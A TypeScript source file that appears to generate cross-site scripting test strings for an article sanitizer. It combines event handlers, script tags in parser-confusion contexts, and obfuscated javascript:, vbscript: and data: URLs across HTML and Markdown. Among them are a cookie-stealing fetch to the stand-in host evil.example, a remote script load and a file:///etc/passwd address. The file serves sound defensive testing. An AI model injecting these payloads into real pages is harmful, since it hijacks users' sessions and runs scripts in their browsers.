const HANDLERS = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle'],
  ...['onpointerenter', 'onbeforetoggle', 'ONERROR', 'onscrollsnapchange', 'onwebkitanimationend'],
]

const HANDLER_PLACES = [
  (handler: string) => `<img src=x ${handler}=alert(1)>`,
  (handler: string) => `<img/src=x/${handler}=alert(1)//`,
  (handler: string) => `<a href="/" ${handler}="alert(1)">a</a>`,
  (handler: string) => `<svg ${handler}=alert(1)>`,
  (handler: string) => `<body ${handler}=alert(1)>`,
  (handler: string) => `<details open ${handler}="alert(1)">`,
  (handler: string) => `<td\n${handler}\n=\nalert(1)>`,
  (handler: string) => `<p title='"'${handler}='alert(1)'>`,
  (handler: string) => `<input autofocus ${handler}=alert(1)>`,
  (handler: string) => `![" ${handler}="alert(1)](x)`,
  (handler: string) => `[a](/x "\\" ${handler}=\\"alert(1)")`,
]

/** Returns HTML and Markdown whose attributes run, each handler in each place for one. */
const liveHandlers = (): ReadonlyArray<string> => HANDLER_PLACES.flatMap((place) => HANDLERS.map(place))

const SCRIPTS = [
  'alert(1)',
  'fetch("https://evil.example/"+document.cookie)',
  'top["al"+"ert"](1)',
  'eval(atob("YWxlcnQoMSk="))',
]

const SCRIPT_PLACES = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<SCRIPT>${script}</SCRIPT >`,
  (script: string) => `<script\n>${script}</script\n>`,
  (script: string) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script: string) => `<script src="https://evil.example/a.js"></script>${script}`,
  (script: string) => `<svg><script>${script}</script></svg>`,
  (script: string) => `<svg><style><img src=x onerror='${script}'></style></svg>`,
  (script: string) => `<math><mtext><table><mglyph><style><img src=x onerror='${script}'>`,
  (script: string) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  (script: string) => `<textarea><img title="</textarea><img src=x onerror='${script}'>">`,
  (script: string) => `<title><img title="</title><script>${script}</script>">`,
  (script: string) => `<!--><script>${script}</script>-->`,
  (script: string) => `<!-- --!><script>${script}</script>-->`,
  (script: string) => `<![CDATA[><script>${script}</script>]]>`,
  (script: string) => `<template><script>${script}</script></template>`,
  (script: string) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script: string) => `<xmp><script>${script}</script></xmp>`,
  (script: string) =>
    `<style>@import 'https://evil.example/a.css';</style><p style="x:expression(${script})">`,
  (script: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${script}'>`,
]

/** Returns HTML with scripts in it, each script in each place that a reader of HTML may take for another. */
const liveScripts = (): ReadonlyArray<string> => SCRIPT_PLACES.flatMap((place) => SCRIPTS.map(place))

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&Tab;:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'javascript://%0Aalert(1)',
  'javascript:/*--></title></style></script>*/alert(1)',
  'vbscript:msgbox(1)',
  'VBSCRIPT:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload="alert(1)">',
  'DATA:text/html,alert(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'livescript:alert(1)',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
]

const URL_PLACES = [
  (url: string) => `<a href="${url}">a</a>`,
  (url: string) => `<a href='${url}'>a</a>`,
  (url: string) => `<a href=${url}>a</a>`,
  (url: string) => `<a xlink:href="${url}">a</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 1x">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<form action="${url}"><button formaction="${url}">a</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>a</text></a></svg>`,
  (url: string) => `<svg><use href="${url}"></use></svg>`,
  (url: string) => `<math href="${url}">a</math>`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<link rel="stylesheet" href="${url}">`,
  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url: string) => `<table background="${url}"><td background="${url}">a</td></table>`,
  (url: string) => `<video src="${url}" poster="${url}"></video>`,
  (url: string) => `[a](${url})`,
  (url: string) => `[a](<${url}>)`,
  (url: string) => `![a](${url})`,
  (url: string) => `[a][b]\n\n[b]: ${url}`,
  (url: string) => `<${url}>`,
]

/** Returns HTML and Markdown whose addresses run, each address in each place for one. */
const liveUrls = (): ReadonlyArray<string> => URL_PLACES.flatMap((place) => URLS.map(place))

/** What the strings stand in: lists, tables and quotations of an article, and halves of other tags. */
const SURROUNDINGS = [
  (inner: string) => inner,
  (inner: string) => `Một đoạn ${inner} và hết.`,
  (inner: string) => `- ${inner}`,
  (inner: string) => `<table><tr><td>${inner}</td></tr></table>`,
  (inner: string) => `<div><p>${inner}`,
]

/** Returns what an article must not run: scripts, handlers and addresses, each in every place it may stand in. */
export const scriptStrings = (): ReadonlyArray<string> => {
  const inner = [...liveUrls(), ...liveHandlers(), ...liveScripts()]
  return SURROUNDINGS.flatMap((around) => inner.map(around))
}
